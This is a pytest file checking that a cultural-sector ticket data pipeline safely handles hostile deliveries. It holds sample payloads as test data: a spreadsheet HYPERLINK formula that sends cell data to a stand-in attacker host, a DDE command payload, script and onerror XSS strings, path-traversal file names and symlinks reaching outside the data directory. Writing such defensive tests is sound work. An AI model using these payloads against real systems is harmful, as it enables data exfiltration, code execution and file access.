"""Hostile input: formulas in names, path-like and linked file names, huge fields, odd Unicode,
a file that grows while it is read. Nothing crashes, nothing escapes the data home, nothing a
spreadsheet or a browser would run comes out, and odd Unicode does not split a person in two.
Fast: intake and privacy on small files, and releases of a hand-made warehouse (no dbt).
"""

from __future__ import annotations

import csv
import json
import os
import re
import unicodedata
from pathlib import Path

import duckdb
import pytest
from conftest import all_files, deliver, write_minimal_sector
from test_exports import make_warehouse

import ingest.intake as intake_module
from exports.csv_safe import escape_cell, unescape_cell
from exports.release import publish_release
from ingest.intake import safe_file_name, take_deliveries
from privacy.step import pseudonymise_pending

# --- formulas: every CSV escaped, the report inert -------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://aanval.example/?d="&A1,"klik")', "=cmd|' /C calc'!A0", "+31 6 1234",
    "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "<img src=x onerror=alert(1)>",
    "</td><script>alert(1)</script>", "gewoon",
]  # fmt: skip
HOSTILE_MEMBERS = {
    "th_zuid": '=HYPERLINK("http://aanval.example","Theater")',
    "th_zuidoost": '<script>alert("zaal")</script> & "Co"',
    "mu_rivier": "+Museum \u202eLAVITSEF",
    "fe_nieuw": "@Festival\u200b Nieuw \U0001f3ad",
}
TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
INVISIBLE_OR_SPACE = " \t\r\n\u00a0\u2007\u202f\u3000\u200b\u200c\u200d\u2060\ufeff\u00ad"


def _sql(value: str) -> str:
    return "'" + value.replace("'", "''") + "'"


def _hostile_warehouse(home) -> None:
    make_warehouse(home)
    home.registry.write_text(
        "code,name,discipline,pc4\n"
        + "".join(f'{c},"{n.replace(chr(34), chr(34) * 2)}",theater,1011\n'
                  for c, n in HOSTILE_MEMBERS.items()),
        encoding="utf-8",
    )  # fmt: skip
    conn = duckdb.connect(str(home.warehouse))
    try:
        for i, name in enumerate(FORMULAS[:8]):
            conn.execute(
                f"update published.market_area set area_name = {_sql(name)} "
                f"where area_code = 'GM{i:04d}'"
            )
        conn.execute(
            "create table published.sector_events as select * from (values "
            + ", ".join(f"({_sql(f)}, 2025, {i})" for i, f in enumerate(FORMULAS))
            + ") t(event_name, year, n_events)"
        )
    finally:
        conn.close()


def _spreadsheet_would_run(cell: str) -> bool:
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    stripped = cell.lstrip(INVISIBLE_OR_SPACE)
    if not stripped.startswith(TRIGGERS):
        return False
    try:
        float(cell)  # a negative number is a number, not a formula
        return False
    except ValueError:
        return True


def test_formulas_in_names_come_out_escaped_in_every_csv_and_inert_in_the_report(home):
    _hostile_warehouse(home)
    release = publish_release(home)
    csv_files = sorted(release.path.rglob("*.csv"))
    assert len(csv_files) > 10
    found = set()
    for path in csv_files:
        with path.open(encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    assert not _spreadsheet_would_run(cell), (path.name, cell)
                    found.add(unescape_cell(cell))
    assert set(FORMULAS) <= found  # escaped, not lost: every value reads back exactly
    for code, name in HOSTILE_MEMBERS.items():
        page = (release.path / "institutions" / code / "report.html").read_text()
        lowered = page.lower()
        assert "<script" not in lowered and "<img" not in lowered and "javascript:" not in lowered
        assert not re.search(r"<[^>]*\son\w+\s*=", page)  # no event-handler attribute anywhere
        assert escape_html(name) in page  # the member's own name, shown as text
    own = (release.path / "institutions" / "th_zuidoost" / "report.html").read_text()
    assert "&lt;script&gt;" in own


def escape_html(text: str) -> str:
    import html

    return html.escape(text)


@pytest.mark.parametrize("value", FORMULAS + ["", "-", "=", "a=b", "'", "''x"])
def test_escape_cell_round_trips_and_disarms(value):
    written = escape_cell(value)
    assert unescape_cell(written) == value
    assert not _spreadsheet_would_run(written)


def test_formulas_in_event_names_are_kept_verbatim_and_long_names_cut_with_a_count(home):
    """Escaping is for output; the warehouse keeps what was delivered (no published table
    carries event names today, and any that would goes through the same CSV writer)."""
    write_minimal_sector(home)
    names = [f for f in FORMULAS if "\n" not in f and "\r" not in f] + ["x" * (1 << 20)]
    rows = "".join(
        f'E{i},2025-03-{i % 28 + 1:02d} 20:00,theater,"{n.replace(chr(34), chr(34) * 2)}"\n'
        for i, n in enumerate(names)
    )
    deliver(home, "th_a", "events.csv", "event_id,starts_at,discipline,event_name\n" + rows)
    [outcome] = take_deliveries(home)
    assert outcome.status == "validated"
    assert outcome.soft.get("text_truncated") == 1
    pseudonymise_pending(home)
    conn = duckdb.connect(str(home.warehouse), read_only=True)
    stored = dict(conn.execute("select event_id, event_name from pseudo.events").fetchall())
    conn.close()
    for i, name in enumerate(names[:-1]):
        assert stored[f"E{i}"].strip() == name.strip()  # verbatim, up to surrounding space
    assert stored[f"E{len(names) - 1}"] == "x" * 500


def test_a_line_too_long_to_read_is_rejected_with_a_clear_report(home):
    write_minimal_sector(home)
    deliver(home, "th_a", "events.csv",
            "event_id,starts_at,discipline,event_name\nE1,2025-03-01 20:00,theater,"
            + "GEHEIM" * 600_000 + "\n")  # fmt: skip
    [outcome] = take_deliveries(home)
    assert outcome.status == "rejected"
    [problem] = outcome.problems
    assert problem["rule"] == "unreadable" and "too long" in problem["detail"]
    report = Path(outcome.report).read_text()
    assert "too long" in report and "GEHEIM" not in report


def test_a_long_line_under_the_limit_at_the_start_is_read(home):
    """A line of 1.5 MB (under the 2 MB limit) in the first rows: intake's first read of a
    file's start uses a 1 MB buffer, and reads it again with a larger one; the delivery is
    validated, its long text cut to 500 characters."""
    write_minimal_sector(home)
    deliver(home, "th_a", "events.csv",
            "event_id,starts_at,discipline,event_name\nE1,2025-03-01 20:00,theater,"
            + "x" * 1_500_000 + "\nE2,2025-03-02 20:00,dans,Kort\n")  # fmt: skip
    [outcome] = take_deliveries(home)
    assert (outcome.status, outcome.rows) == ("validated", 2)
    assert outcome.soft["text_truncated"] == 1


# --- names: nothing escapes the data home --------------------------------------------------

NASTY_NAMES = [
    "../../x.csv", "..\\..\\x.csv", "/etc/passwd", "C:\\Windows\\x.csv", "a\x00b.csv", ".",
    "..", "", "...", "x" * 5000 + ".csv", "\u202egpj.csv", "=cmd|' /C calc'!A0.csv",
    "-rf.csv", "a\nb.csv", "名前.csv", "\u200b.csv",
]  # fmt: skip


@pytest.mark.parametrize("name", NASTY_NAMES)
def test_a_file_name_is_reduced_to_a_harmless_base_name(name):
    safe = safe_file_name(name)
    assert safe and len(safe) <= 120
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", safe), safe
    assert "/" not in safe and "\\" not in safe and safe not in (".", "..")


def test_path_like_and_linked_uploads_never_reach_outside_the_data_home(home, tmp_path, caplog):
    write_minimal_sector(home)
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "secret.csv"
    secret.write_text("ticket_id,order_id,event_id,event_start,sold_at,price,email\n"
                      "X1,O1,E1,2025-03-01 20:00,2025-02-01 10:00,9.00,buiten@example.nl\n")  # fmt: skip
    before = {p: p.stat().st_mtime_ns for p in outside.rglob("*")}
    folder = home.landing / "th_a"
    folder.mkdir(parents=True, exist_ok=True)
    os.symlink(secret, folder / "link.csv")  # a link out of the data home
    deliver(home, "mu_b", "theirs.csv", secret.read_text().replace("X1", "M1"))
    os.symlink(home.landing / "mu_b" / "theirs.csv", folder / "steal.csv")  # another member's
    os.symlink(outside, home.landing / "th_b")  # a linked member folder
    odd = ["=cmd.csv", "-rf.csv", "a\nb.csv", "\u202evsc.csv", "y" * 240 + ".csv"]
    for name in odd:
        deliver(home, "th_a", name, "not a delivery\n")
    outcomes = take_deliveries(home, only=None)
    pseudonymise_pending(home)
    # the links were not followed, not moved, not deleted; their targets are untouched
    assert {o.file_name for o in outcomes} == {"theirs.csv"} | {safe_file_name(n) for n in odd}
    assert (folder / "link.csv").is_symlink() and (folder / "steal.csv").is_symlink()
    assert {p: p.stat().st_mtime_ns for p in outside.rglob("*")} == before
    assert "symbolic link" in caplog.text
    conn = duckdb.connect(str(home.warehouse), read_only=True)
    loaded = conn.execute("select institution_code, ticket_id from pseudo.tickets").fetchall()
    conn.close()
    assert loaded == [("mu_b", "M1")]
    # every file written is inside the data home, with a harmless name
    links = {p for p in all_files(home.root) if p.is_symlink()}
    assert links == {folder / "link.csv", folder / "steal.csv"}  # the member's own, left alone
    for path in all_files(home.root):
        if path in links:
            continue
        assert path.resolve().is_relative_to(home.root.resolve())
        assert "\n" not in path.name and "\u202e" not in path.name and len(path.name) < 256
    # a run asked (by a tampered run config) for paths outside landing takes nothing
    assert take_deliveries(home, only=["../../outside/secret.csv", str(secret)]) == []


# --- odd Unicode: one person, one PC4 ------------------------------------------------------


def test_odd_unicode_in_identifiers_does_not_split_a_person(home):
    write_minimal_sector(home)
    email = "josé.de.vries@example.nl"
    variants = [
        (unicodedata.normalize("NFC", email), "1011AB"),
        (unicodedata.normalize("NFD", email), "1011 ab"),
        (email.upper(), "1011\u00a0AB"),  # no-break space
        ("\u200b" + email.replace("@", "\u200d@"), "１０１１ＡＢ"),  # zero-width; full-width
        (" " + email + "\ufeff", "\u202a1011AB\u202c"),  # bidi embedding around the postcode
    ]
    header = "ticket_id,order_id,event_id,event_start,sold_at,price,email,postcode\n"
    rows = "".join(f"T{i},O{i},E1,2025-03-01 20:00,2025-02-01 10:00,10.00,{e},{pc}\n"
                   for i, (e, pc) in enumerate(variants))  # fmt: skip
    deliver(home, "th_a", "tickets.csv", header + rows)
    # the fallback key (no e-mail): name with combining accents, RTL override and an emoji
    fallback = ("ticket_id,order_id,event_id,event_start,sold_at,price,last_name,birth_date,"
                "postcode\n"
                "F1,P1,E1,2025-03-01 20:00,2025-02-01 10:00,10.00,Müller \U0001f3ad,1980-05-01,"
                "3511 AA\n"
                f"F2,P2,E1,2025-03-01 20:00,2025-02-01 10:00,10.00,"
                f"{unicodedata.normalize('NFD', 'MÜLLER')} \U0001f3ad\u200b,1980-05-01,3511\u00a0aa\n")  # fmt: skip
    deliver(home, "mu_b", "tickets.csv", fallback)
    outcomes = take_deliveries(home)
    assert [o.status for o in outcomes] == ["validated", "validated"]
    pseudonymise_pending(home)
    conn = duckdb.connect(str(home.warehouse), read_only=True)
    rows = conn.execute(
        "select institution_code, count(distinct sector_head), count(sector_head), "
        "list(distinct pc4) from pseudo.tickets group by 1 order by 1"
    ).fetchall()
    conn.close()
    assert rows == [("mu_b", 1, 2, ["3511"]), ("th_a", 1, len(variants), ["1011"])]


# --- a file that grows while it is read ----------------------------------------------------


def test_a_file_still_being_written_is_left_in_landing(home, monkeypatch):
    write_minimal_sector(home)
    header = "ticket_id,order_id,event_id,event_start,sold_at,price\n"
    row = "T{i},O{i},E1,2025-03-01 20:00,2025-02-01 10:00,10.00\n"
    upload = deliver(home, "th_a", "tickets.csv", header + row.format(i=1))
    real_seal = intake_module.seal_file

    def seal_while_the_upload_goes_on(source, target, key):
        digest = real_seal(source, target, key)
        with open(source, "a") as fh:  # the member's upload is still writing
            fh.write(row.format(i=2))
        return digest

    monkeypatch.setattr(intake_module, "seal_file", seal_while_the_upload_goes_on)
    assert take_deliveries(home) == []
    assert upload.exists()
    assert not [p for p in home.quarantine.rglob("*") if p.is_file() and ".spill" not in p.parts]
    monkeypatch.setattr(intake_module, "seal_file", real_seal)
    # finished: the next run takes the whole file
    [outcome] = take_deliveries(home)
    assert outcome.status == "validated" and outcome.rows == 2
    assert not upload.exists()


def test_the_sensor_skips_links_and_unsettled_files(home, monkeypatch, tmp_path):
    import dagster as dg

    from orchestration.definitions import defs

    monkeypatch.setenv("PUBLIEKSDATA_LANDING_SETTLE_SECONDS", "0")
    write_minimal_sector(home)
    deliver(home, "th_a", "real.csv", "x\n")
    target = tmp_path / "elsewhere.csv"
    target.write_text("x\n")
    os.symlink(target, home.landing / "th_a" / "link.csv")
    sensor = defs.resolve_sensor_def("landing_sensor")
    with dg.instance_for_test() as instance:
        requests = sensor(dg.build_sensor_context(instance=instance))
    assert [r.tags["publieksdata/delivery"] for r in requests] == ["th_a/real.csv"]


def test_reports_name_the_file_safely(home):
    write_minimal_sector(home)
    deliver(home, "th_a", "=HYPERLINK(x).csv", "not,a\ndelivery,at all,really\n")
    [outcome] = take_deliveries(home)
    report = json.loads(Path(outcome.report).read_text())
    assert report["file"] == safe_file_name("=HYPERLINK(x).csv")
    assert not report["file"].startswith(("=", "+", "-", "@"))
